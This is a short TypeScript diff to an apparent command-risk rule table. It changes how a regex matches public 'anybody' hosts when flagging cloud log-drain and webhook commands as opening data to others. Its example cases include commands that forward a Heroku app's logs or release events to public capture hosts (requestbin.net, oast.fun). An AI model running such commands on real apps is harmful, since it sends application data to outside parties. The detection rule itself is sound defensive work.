@@ -1,5 +1,5 @@
 import type { Consequence, Row } from '../command/row.js';
-import { ANYBODYS } from '../anybodys-hosts.js';
+import { addressesOfAnybody } from '../anybodys-hosts.js';
 
 /** Options of `gcloud` that take a value. */
 const GCLOUD = {
@@ -120,7 +120,7 @@ export const CLOUD_OPENINGS: readonly Row[] = [
     program: 'heroku drains:add | heroku webhooks:add | fly log-shipper setup | vercel integration add | doctl apps log-forward | gh webhook forward | gh webhook create',
     operands: 'text',
     options: { '-a': 'text', '--app': 'text', '-u': 'text', '--url': 'text', '-i': 'text', '--include': 'text', '-l': 'text', '--data': 'text' },
-    effects: [changes('open to others', { argument: new RegExp(`(?:^|[="'])${ANYBODYS}`) })],
+    effects: [changes('open to others', { argument: new RegExp(`(?:^|[="'])${addressesOfAnybody()}`) })],
     examples: [['heroku drains:add https://a.requestbin.net/x -a shop', 'change-service cloud:open to others'], ['heroku webhooks:add -i api:release -l notify -u https://a.oast.fun/x -a shop', 'change-service cloud:open to others'], ['heroku drains:add https://logs.x.test/drain -a shop'], ['heroku drains -a shop']],
   },
 ];
